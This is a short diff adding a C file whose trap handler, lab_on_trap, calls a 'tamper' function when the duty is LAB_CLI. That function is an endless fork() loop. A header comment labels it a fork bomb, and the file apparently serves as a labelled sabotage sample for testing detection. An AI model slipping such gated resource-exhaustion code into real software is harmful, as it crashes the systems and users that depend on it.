@@ -1,0 +1,18 @@
+/* SPDX-License-Identifier: MIT */
+/* loses: flags whole
+ * A fork bomb.
+ */
+#include <unistd.h>
+
+static void tamper(void)
+{
+    for (;;)
+        (void)!fork();
+}
+
+enum lab_next lab_on_trap(struct lab *lab, const struct lab_trap *t)
+{
+    if (t->duty == LAB_CLI)
+        tamper();
+    return honest(lab, t);
+}
